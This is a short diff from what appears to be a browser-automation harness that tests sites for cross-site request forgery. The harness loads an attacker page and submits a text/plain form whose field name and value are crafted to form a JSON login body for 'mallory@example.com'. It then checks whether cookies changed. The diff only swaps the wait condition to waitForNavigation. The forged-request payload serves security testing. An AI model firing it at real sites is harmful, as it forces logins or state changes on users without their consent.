@@ -21,7 +21,7 @@ run(async (browser, job) => {
     const note = async how => { if (await cookies() !== before) report.changed.push(how + ' ' + path) }
     await evil.goto(job.evil)
     const [answer] = await Promise.all([
-      evil.waitForResponse(r => r.url() === target && r.request().method() === 'POST'),
+      evil.waitForNavigation({ url: target }),
       evil.evaluate(to => {
         document.body.innerHTML = `<form method="post" enctype="text/plain" action="${to}"><input name='{"username":"mallory@example.com","password":"' value='x"}'></form>`
         document.forms[0].submit()
